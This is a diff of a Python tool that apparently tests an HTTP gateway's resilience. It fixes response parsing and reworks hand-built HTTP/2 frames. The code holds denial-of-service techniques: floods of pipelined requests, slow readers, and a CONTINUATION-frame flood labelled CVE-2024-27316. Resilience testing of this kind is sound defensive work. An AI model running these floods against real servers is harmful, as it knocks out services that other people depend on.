@@ -12,7 +12,10 @@ def answer(connection):
     while b"\r\n\r\n" not in data:
         data += more(connection)
     head, body = data.split(b"\r\n\r\n", 1)
-    length = int(re.search(rb"(?i)content-length: (\d+)", head).group(1))
+    length = re.search(rb"(?i)content-length: (\d+)", head)
+    if not length:
+        raise ConnectionError("an answer without a length")
+    length = int(length.group(1))
     while len(body) < length:
         body += more(connection)
     return int(head.split()[1])
@@ -49,9 +52,9 @@ def in_line(gate, kept):
     wire = kept["wires"][kept.get("at", 0) % 8]
     kept["at"] = kept.get("at", 0) + 1
     wire.sendall(request * 50)
-    whole = 0
-    while whole < 50:
-        whole += more(wire).count(b"HTTP/1.1 200")
+    data = b""
+    while data.count(b"HTTP/1.1 200") < 50:
+        data += more(wire)
     return 50
 
 
@@ -105,7 +108,7 @@ def slow_readers(gate, kept):
 
 # --- HTTP/2 (RFC 9113 §4.1), by hand: no client sends what these do ---
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
 END_STREAM, END_HEADERS = 1, 4
 
 
@@ -125,7 +128,6 @@ def over_http2(each):
         if "wire" not in kept:
             kept["wire"] = gate.connect("h2")
             kept["wire"].sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
-            kept["wire"].settimeout(0)
             kept["stream"] = -1
         lines = {":method": "GET", ":scheme": "https", ":authority": gate.host, ":path": "/public/x"}
         kept["stream"] += 2
@@ -162,8 +164,7 @@ def settings(wire, _, __):
 
 def continuations(wire, stream, lines):
     """CVE-2024-27316: a head without an end."""
-    wire.sendall(frame(HEADERS, END_STREAM, stream, lines) + frame(CONTINUATION, 0, stream, literal("x", "y" * 100) * 100) * 10)
-    return 10
+    wire.sendall(frame(HEADERS, END_STREAM, 1, lines) if stream == 1 else frame(CONTINUATION, 0, 1, literal("x", "y" * 100)))
 
 
 def head(lines, target="/x"):
